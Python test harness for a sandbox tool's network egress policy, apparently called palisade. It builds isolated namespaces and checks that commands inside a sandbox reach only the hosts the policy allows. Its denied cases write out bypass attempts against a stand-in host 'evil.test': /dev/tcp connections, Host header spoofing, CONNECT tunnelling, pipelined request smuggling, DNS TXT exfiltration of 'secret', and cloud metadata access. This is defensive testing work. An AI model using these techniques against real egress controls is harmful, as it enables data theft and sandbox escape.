"""A world of two network namespaces: this one, in which `pal` runs, and one with servers that count what reaches them.

Each case runs a command in a Body. A case that must be denied stands beside one that shows that the same command reaches
the same server when the policy names it.
"""

import json
import os
import shlex
import shutil
import signal
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time

import corporate
from agents import ADDRESS as MODELS, NAMES as MODEL_NAMES, agent_cases
from clients import ADDRESS as CLIENTS, NAME as CLIENTS_NAME, ClientServers, client_cases
from hostile import hostile_cases
from inspection import InspectedServer, inspection_cases, rule_cases, secret_cases
from kills import ArrivalLog, kill_cases
from leaks import leak_cases
from programs import LARGE, USUAL, program_cases, psql_cases
from ssh_keys import HOSTS as SSH_HOSTS, SshServers, ssh_cases

PAL, LAYER, USER, TOOLS = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
GROUPS = sys.argv[5:]
# The servers' addresses look like those of the Internet; nothing leaves the two namespaces.
HOST, SERVERS, OTHER = "11.0.0.1", "11.0.0.2", "11.0.0.3"
# The server of the load under kills.
KILLED = "11.0.0.9"
NAMES = {
    "web.test": SERVERS,
    "api.web.test": SERVERS,
    "deep.api.web.test": SERVERS,
    "evil.test": OTHER,
    "inner.test": "10.9.9.9",
    "metadata.test": "169.254.169.254",
    "here.test": HOST,
    "loop.test": "127.0.0.1",
    "api.inspected.test": "11.0.0.4",
    "free.inspected.test": "11.0.0.4",
    "git.inspected.test": "11.0.0.4",
    corporate.PROXY: SERVERS,
    CLIENTS_NAME: CLIENTS,
    **SSH_HOSTS,
    **{name: MODELS for name in MODEL_NAMES},
}


def sh(line):
    subprocess.run(line, shell=True, check=True)


class Server:
    """A TCP server in the other namespace, which keeps the first bytes of each connection that sends some."""

    def __init__(self, address, port, serve):
        self.seen, self.opened, self.serve = [], 0, serve
        self.listener = socket.create_server((address, port), backlog=256)
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while True:
            stream, _ = self.listener.accept()
            self.opened += 1
            threading.Thread(target=self.handle, args=(stream,), daemon=True).start()

    def handle(self, stream):
        try:
            with stream:
                stream.settimeout(20)
                self.serve(self, stream)
        except OSError:
            pass

    def take(self):
        time.sleep(0.05)
        seen, opened = self.seen, self.opened
        self.seen, self.opened = [], 0
        return seen, opened


def http(server, stream):
    data = b""
    while b"\r\n\r\n" not in data:
        piece = stream.recv(65536)
        if not piece:
            return
        data += piece
    head, _, rest = data.partition(b"\r\n\r\n")
    length = [line.split(b":")[1] for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")]
    while length and len(rest) < int(length[0]):
        piece = stream.recv(65536)
        if not piece:
            break
        rest += piece
    time.sleep(0.05)
    stream.setblocking(False)
    try:
        rest += stream.recv(65536)
    except OSError:
        pass
    stream.setblocking(True)
    server.seen.append(head + b"\r\n\r\n" + rest)
    stream.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\nConnection: close\r\n\r\nREACHED")


def tls(context):
    def serve(server, stream):
        with context.wrap_socket(stream, server_side=True) as inner:
            http(server, inner)

    return serve


def banner(server, stream):
    """A protocol in which the server speaks first, as SSH and SMTP do."""
    stream.sendall(b"HELLO 1.0\r\n")
    line = stream.recv(100)
    server.seen.append(line)
    stream.sendall(b"BYE " + line)


def sink(server, stream):
    data = stream.recv(65536)
    if data:
        server.seen.append(data)
        stream.sendall(b"ECHO " + data)


def make_world(home):
    """Makes the namespaces, the servers and the host's names. Returns the servers by name."""
    sh("ip link set lo up")
    other = subprocess.Popen(["unshare", "--net", "sleep", "1000"])
    time.sleep(0.3)
    sh(f"ip link add here type veth peer name there netns {other.pid}")
    sh(f"ip addr add {HOST}/24 dev here && ip link set here up")
    inside = f"nsenter --net=/proc/{other.pid}/ns/net"
    for address in (SERVERS, OTHER, "11.0.0.4", CLIENTS, MODELS, KILLED, *SSH_HOSTS.values(), "10.9.9.9", "169.254.169.254"):
        sh(f"{inside} ip addr add {address}/24 dev there")
    sh(f"{inside} ip addr add {corporate.ADDRESS}/32 dev there")
    sh(f"{inside} ip link set lo up && {inside} ip link set there up")
    sh("ip route add 10.9.9.0/24 dev here && ip route add 169.254.0.0/16 dev here")
    # An overlay, because a mount on one file of /etc would take /etc away from the Bodies of an ordinary user.
    layers = os.path.join(home, "etc")
    sh(f"mkdir -p {layers} && mount -t tmpfs tmpfs {layers} && mkdir {layers}/upper {layers}/work")
    sh(f"mount -t overlay overlay -o lowerdir=/etc,upperdir={layers}/upper,workdir={layers}/work /etc")
    with open("/etc/hosts", "w") as file:
        file.write("127.0.0.1 localhost\n::1 localhost\n")
        file.writelines(f"{address} {name}\n" for name, address in NAMES.items())
    with open("/etc/resolv.conf", "w") as file:
        file.write("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
    certificate, key = make_certificate(home)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    context.set_alpn_protocols(["http/1.1"])
    # A socket belongs to the namespace of the thread that makes it.
    libc = __import__("ctypes").CDLL(None, use_errno=True)
    back, there = os.open("/proc/thread-self/ns/net", os.O_RDONLY), os.open(f"/proc/{other.pid}/ns/net", os.O_RDONLY)
    if libc.setns(there, 0x40000000):
        raise OSError("cannot enter the servers' namespace")
    servers = {}
    for address in (SERVERS, OTHER, "10.9.9.9", "169.254.169.254", corporate.ADDRESS):
        servers[address, 80] = Server(address, 80, http)
        servers[address, 443] = Server(address, 443, tls(context))
        servers[address, 22] = Server(address, 22, banner)
        servers[address, 5432] = Server(address, 5432, sink)
    servers[SERVERS, corporate.PORT] = Server(SERVERS, corporate.PORT, corporate.serve)
    if libc.setns(back, 0x40000000):
        raise OSError("cannot come back")
    servers[HOST, 80] = Server("0.0.0.0", 80, http)
    inspected = InspectedServer(inside.split(), home, key, certificate)
    ssh = SshServers(inside.split(), home)
    return servers, other, inspected, ClientServers(inside.split(), home, key, certificate), ssh, inside.split()


def make_certificate(home):
    """Makes an authority that this machine trusts, and a certificate of it for all names."""
    authority, certificate, key = (os.path.join(home, name) for name in ("authority.pem", "cert.pem", "key.pem"))
    names = ",".join(f"DNS:{name}" for name in [*NAMES, corporate.NAME])
    make_key = "openssl req -newkey rsa:2048 -nodes"
    sh(f"{make_key} -x509 -days 2 -subj '/CN=the world' -keyout {home}/authority.key -out {authority} 2>/dev/null")
    with open(f"{home}/names", "w") as file:
        file.write(f"subjectAltName={names}\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n")
    sh(f"{make_key} -subj /CN=web.test -keyout {key} -out {home}/cert.csr 2>/dev/null")
    sh(
        f"openssl x509 -req -days 2 -in {home}/cert.csr -CA {authority} -CAkey {home}/authority.key -CAcreateserial"
        f" -extfile {home}/names -out {certificate} 2>/dev/null"
    )
    with open(authority) as root, open("/etc/ssl/certs/ca-certificates.crt", "a") as bundle:
        bundle.write("\n" + root.read())
    return certificate, key


class Pal:
    program = PAL

    def __init__(self, home):
        self.data = os.path.join(home, "data")
        os.makedirs(self.data)
        os.chown(self.data, USER, USER)
        self.drop = []
        if USER:
            self.drop = ["setpriv", f"--reuid={USER}", f"--regid={USER}", "--clear-groups", "--inh-caps=-all"]
        self.env = {**os.environ, "HOME": self.data, "PAL_DATA": self.data}

    def words(self):
        return [*self.drop, PAL, "--data", self.data]

    def __call__(self, *arguments, check=True, timeout=120, input=None):
        done = subprocess.run(
            [*self.words(), *arguments],
            capture_output=True, text=True, timeout=timeout, env=self.env, cwd="/", input=input,
        )
        if check and done.returncode:
            raise AssertionError(f"pal {' '.join(arguments)}: {done.stdout}{done.stderr}")
        return done


FAILED = []


def expect(what, right, seen=""):
    if not right:
        FAILED.append(what)
        print(f"  FAILED {what}: {seen}")


def main():
    home = tempfile.mkdtemp(prefix="palisade-network-")
    os.chmod(home, 0o755)
    servers, other, inspected, clients, ssh, enter = make_world(home)
    pal = Pal(home)
    if LAYER == "microvm":
        shutil.rmtree(pal.data)
        pal.data = os.environ["MICROVM_DATA"]
    try:
        cases(pal, servers, other, inspected, clients, ssh, home, enter)
    finally:
        clients.stop()
        ssh.stop()
        inspected.process.kill()
        inspected.process.wait()
        other.kill()
        other.wait()
        if LAYER != "microvm":
            subprocess.run(["umount", "--lazy", "/etc", os.path.join(home, "etc")], check=False)
            subprocess.run(["rm", "-rf", home], check=False)
    print(f"{'0 failed' if not FAILED else f'{len(FAILED)} failed'} on layer {LAYER} as user {USER}")
    sys.exit(bool(FAILED))


def cases(pal, servers, other, inspected, clients, ssh, home, enter):
    def body(*options):
        return pal("create", "--layer", LAYER, *options).stdout.strip()

    def inside(name, line, timeout=30):
        began = time.monotonic()
        done = pal("exec", name, "--", "bash", "-c", line, check=False, timeout=timeout)
        return done.stdout + done.stderr, done.returncode, time.monotonic() - began

    def drained():
        return {place: seen for place, server in servers.items() if (seen := server.take()) != ([], 0)}

    def show(source, target):
        """The option that shows a directory in a Body; an ordinary user may not reach its place on this host."""
        place = f"/mnt{target}"
        if not os.path.isdir(place):
            sh(f"mkdir -p {place} && mount --bind {shlex.quote(source)} {place} && mount -o remount,bind,ro {place}")
        return ["--mount", f"{place}:/mnt{target}" + (",type=virtiofs" if LAYER == "microvm" else "")]

    key, certificate = os.path.join(home, "key.pem"), os.path.join(home, "cert.pem")
    # Seen in this mount namespace only.
    sh("mount -t tmpfs tmpfs /mnt")
    groups = {
        "judge": lambda: judge_cases(pal, servers, body, inside, drained),
        "inspection": lambda: inspection_cases(pal, inspected, body, inside, expect),
        "secrets": lambda: secret_cases(pal, inspected, body, inside, expect, kill_egress, drained),
        "rules": lambda: rule_cases(pal, USER, inspected, inside, expect, kill_egress, drained),
        "ssh": lambda: ssh_cases(pal, ssh, body, inside, expect, kill_egress),
        "corporate": lambda: corporate.corporate_cases(pal, body, inside, drained, expect),
        "clients": lambda: client_cases(pal, clients, body, inside, expect),
        "programs": lambda: program_cases(USUAL, pal, enter, show, TOOLS, body, inside, expect),
        "hostile": lambda: hostile_cases(pal, servers, enter, body, inside, drained, expect),
        "leaks": lambda: leak_cases(pal, home, inspected, body, inside, expect, LAYER),
        "large": lambda: program_cases(LARGE, pal, enter, show, TOOLS, body, inside, expect),
        "psql": lambda: psql_cases(pal, enter, home, body, inside, expect),
        "agents": lambda: agent_cases(pal, enter, home, key, certificate, show, TOOLS, body, inside, expect),
    }
    kills = lambda count: kill_cases(pal, ArrivalLog(other.pid, KILLED), count, LAYER, expect)
    groups |= {"kills": lambda: kills(20), "many-kills": lambda: kills(200)}
    for name in GROUPS:
        began = time.monotonic()
        groups[name]()
        print(f"  {name}: {time.monotonic() - began:.0f} s", flush=True)


def judge_cases(pal, servers, body, inside, drained):
    clean = "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY; "
    curl = clean + f"curl -sS --max-time 10 -k "
    fine = body("--allow", "web.test", "--allow", "web.test:22", "--allow", "web.test:5432")
    closed = body()
    wild = body("--allow", "*.web.test:80", "--allow", "inner.test", "--allow", "metadata.test", "--allow", "here.test", "--allow", "loop.test")

    # What the policy names is reached, by programs that know of no proxy.
    reached = [
        ("http", curl + "http://web.test/x", (SERVERS, 80)),
        ("https", curl + "https://web.test/x", (SERVERS, 443)),
        ("http with a body", curl + "-d some=thing http://web.test/x", (SERVERS, 80)),
        ("a chunked body", "printf abc | " + curl.replace(clean, "") + "-H 'Transfer-Encoding: chunked' -d @- http://web.test/x", (SERVERS, 80)),
        ("a server that speaks first", clean + "exec 3<>/dev/tcp/web.test/22; read -t 9 line <&3; echo me >&3; cat <&3; echo $line", (SERVERS, 22)),
        ("any tcp", clean + "exec 3<>/dev/tcp/web.test/5432; printf query >&3; head -c 10 <&3", (SERVERS, 5432)),
        ("python", clean + "python3 -c 'import urllib.request as u; print(u.urlopen(\"http://web.test/x\", timeout=9).read())'", (SERVERS, 80)),
        ("a proxy by variable", "curl -sS --max-time 10 http://web.test/x", (SERVERS, 80)),
        ("a tunnel by variable", "curl -sSk --max-time 10 https://web.test/x", (SERVERS, 443)),
        ("upper case and a dot", curl + "http://WEB.test./x -H 'Host: web.test'", (SERVERS, 80)),
    ]
    for what, line, place in reached:
        text, code, _ = inside(fine, line)
        seen = drained()
        expect(what, code == 0 and place in seen and len(seen) == 1, (text, code, seen))
        text, code, took = inside(closed, line)
        expect(f"{what}, without a policy", drained() == {} and took < 8, (text, code, took))

    # What it does not name is refused at once, and not one byte arrives.
    denied = [
        ("another name", curl + "http://evil.test/"),
        ("another name by tls", curl + "https://evil.test/"),
        ("a name below", curl + "http://api.web.test/"),
        ("a name above", curl + "http://test/"),
        ("another port", curl + "http://web.test:8080/"),
        ("the address itself", curl + f"http://{SERVERS}/"),
        ("the address as a number", curl + "http://184549378/"),
        ("the address with the name as Host", curl + f"-H 'Host: web.test' http://{SERVERS}/"),
        ("another Host", curl + "-H 'Host: evil.test' http://web.test/"),
        ("two Hosts", clean + r"exec 3<>/dev/tcp/web.test/80; printf 'GET / HTTP/1.1\r\nHost: web.test\r\nHost: evil.test\r\n\r\n' >&3; cat <&3"),
        ("no Host", clean + r"exec 3<>/dev/tcp/web.test/80; printf 'GET / HTTP/1.1\r\n\r\n' >&3; cat <&3"),
        ("an absolute form", clean + r"exec 3<>/dev/tcp/web.test/80; printf 'GET http://evil.test/ HTTP/1.1\r\nHost: web.test\r\n\r\n' >&3; cat <&3"),
        ("another server name", clean + "echo | timeout 9 openssl s_client -connect web.test:443 -servername evil.test"),
        ("no server name", clean + "echo | timeout 9 openssl s_client -connect web.test:443 -noservername"),
        ("no tls on 443", clean + r"exec 3<>/dev/tcp/web.test/443; printf 'GET / HTTP/1.1\r\nHost: web.test\r\n\r\n' >&3; cat <&3"),
        ("a CONNECT inside", clean + r"exec 3<>/dev/tcp/web.test/80; printf 'CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test\r\n\r\n' >&3; cat <&3"),
        ("another name by proxy", "curl -sSk --max-time 10 https://evil.test/"),
        ("udp", f"python3 -c 'import socket; s=socket.socket(2,2); s.connect((\"{SERVERS}\",443)); s.send(b\"x\"); s.settimeout(5); s.recv(9)'"),
        ("the port of the redirect", clean + "exec 3<>/dev/tcp/127.0.0.1/15001; echo x >&3; head -c 1 <&3 | grep -q ."),
        ("TXT questions", "python3 - <<'P'\nimport socket\nq=b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\4test\\0\\0\\x10\\0\\1'\ns=socket.socket(2,2); s.settimeout(5); s.sendto(q,('127.0.0.1',53)); r=s.recv(512)\nraise SystemExit(1 if r[3]&15 else 0)\nP"),
        ("a name server outside", f"python3 - <<'P'\nimport socket\nq=b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4evil\\4test\\0\\0\\1\\0\\1'\ns=socket.socket(2,2); s.settimeout(5); s.sendto(q,('{OTHER}',53)); r=s.recv(512)\nraise SystemExit(1 if r[3]&15 else 0)\nP"),
    ]
    for what, line in denied:
        text, code, took = inside(fine, line)
        seen = drained()
        reached_bytes = {place: found for place, found in seen.items() if found[0]}
        quiet = not any(place != (SERVERS, 80) and place != (SERVERS, 443) for place in seen) and not reached_bytes
        readable = code != 0 or "HTTP/1.1 4" in text or "palisade" in text or text.startswith("\x15\x03") or "no peer certificate" in text
        expect(what, quiet and "REACHED" not in text and readable, (text, code, seen))
        expect(f"{what}, at once", took < 8, took)
    # A second request on one connection goes nowhere.
    text, code, _ = inside(fine, clean + r"exec 3<>/dev/tcp/web.test/80; printf 'GET /one HTTP/1.1\r\nHost: web.test\r\n\r\nGET /two HTTP/1.1\r\nHost: evil.test\r\n\r\n' >&3; cat <&3")
    seen = drained()
    smuggled = [data for found in seen.values() for data in found[0] if b"/two" in data]
    expect("a pipelined request", not smuggled and (SERVERS, 80) in seen, (text, seen))
    # Names that lead inside are refused, although the policy names them.
    for name in ("inner.test", "metadata.test", "here.test", "loop.test"):
        text, code, _ = inside(wild, curl + f"http://{name}/")
        seen = drained()
        expect(f"{name} leads inside", seen == {} and "REACHED" not in text, (text, seen))
    text, code, _ = inside(wild, curl + "http://api.web.test/")
    expect("one label below", (SERVERS, 80) in drained(), text)
    text, code, _ = inside(wild, curl + "http://deep.api.web.test/")
    expect("two labels below", drained() == {} and "REACHED" not in text, text)
    inner = body("--allow", "inner.test:80+private", "--allow", f"{OTHER}:80")
    text, _, _ = inside(inner, curl + "http://inner.test/")
    expect("a private name that is named so", ("10.9.9.9", 80) in drained(), text)
    text, _, _ = inside(inner, curl + f"http://{OTHER}/")
    expect("an address that is named", (OTHER, 80) in drained(), text)

    # The policy changes while the Body runs.
    text, _, _ = inside(fine, curl + "http://evil.test/")
    expect("evil before", drained() == {}, text)
    pal("net", "allow", fine, "evil.test:80")
    text, _, _ = inside(fine, curl + "http://evil.test/")
    expect("evil after `pal net allow`", (OTHER, 80) in drained(), text)
    pal("net", "deny", fine, "evil.test")
    text, _, _ = inside(fine, curl + "http://evil.test/")
    expect("evil after `pal net deny`", drained() == {} and "REACHED" not in text, text)
    shown = pal("net", "show", fine).stdout
    expect("pal net show", "web.test" in shown and "evil.test" in shown, shown)
    tested = pal("net", "test", fine, "web.test:443", check=False), pal("net", "test", fine, "other.test:443", check=False)
    expect("pal net test", [one.returncode for one in tested] == [0, 1], tested)

    # A change closes what it no longer allows, a restart keeps the policy, a fork has it, and another Body has none.
    line = clean + "exec 3<>/dev/tcp/web.test/5432; printf one >&3; head -c 8 <&3; touch /tmp/open; cat <&3; touch /tmp/cut; sleep 5"
    held = subprocess.Popen([*pal.drop, PAL, "--data", pal.data, "exec", fine, "--", "bash", "-c", line.replace("head -c 8 <&3; ", "")], env=pal.env, cwd="/", stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    for _ in range(100):
        if inside(fine, "test -e /tmp/open")[1] == 0:
            break
        time.sleep(0.1)
    drained()
    pal("net", "deny", fine, "web.test:5432")
    cut = inside(fine, "for i in $(seq 50); do test -e /tmp/cut && exit 0; sleep 0.1; done; exit 1")[1]
    expect("a connection that is no longer allowed is closed", cut == 0)
    held.kill()
    held.wait()
    pal("stop", fine)
    pal("start", fine)
    text, _, _ = inside(fine, curl + "http://web.test/")
    expect("after a restart", (SERVERS, 80) in drained(), text)
    text, _, _ = inside(fine, curl + "http://evil.test/")
    expect("denied after a restart", drained() == {}, text)
    fork = pal("fork", fine).stdout.split()[0]
    text, _, _ = inside(fork, curl + "http://web.test/")
    expect("a fork", (SERVERS, 80) in drained(), text)

    # The egress process is killed: connections wait for the next one, which knows the names.
    address = inside(fine, "getent ahostsv4 web.test | head -n 1 | cut -d ' ' -f 1")[0].strip()
    expect("names have addresses that stand for them", address.startswith("198.1"), address)
    for round in range(3):
        kill_egress(pal)
        text, code, _ = inside(fine, curl + f"--resolve web.test:80:{address} http://web.test/{round}")
        expect(f"after kill {round}", (SERVERS, 80) in drained(), text)
        text, _, _ = inside(fine, curl + "http://evil.test/")
        expect(f"denied after kill {round}", drained() == {} and "REACHED" not in text, text)

    # Everything is in the log, and the log is whole.
    events = [json.loads(line) for line in pal("events", "--body", fine, "--json").stdout.splitlines()]
    kinds = {event["type"] for event in events}
    expect("events", {"network.allowed", "network.denied", "network.named", "network.changed"} <= kinds, kinds)
    denials = [event["data"] for event in events if event["type"] == "network.denied"]
    expect("a denied name is in the log", any("evil.test" in data["to"] for data in denials), denials[:5])
    pal("events", "verify")
    record = pal("inspect", fine).stdout
    expect("the record", "transparent network" in record, record)
    for name in (fine, closed, wild, inner, fork):
        pal("rm", "--force", name)
    left = os.listdir(os.path.join(pal.data, "egress")) if os.path.isdir(os.path.join(pal.data, "egress")) else []
    expect("nothing is left", left == [], left)


def kill_egress(pal):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if open(f"/proc/{pid}/comm").read().strip() == "pal-egress" and os.readlink(f"/proc/{pid}/ns/net") == os.readlink("/proc/self/ns/net"):
                os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass


main()
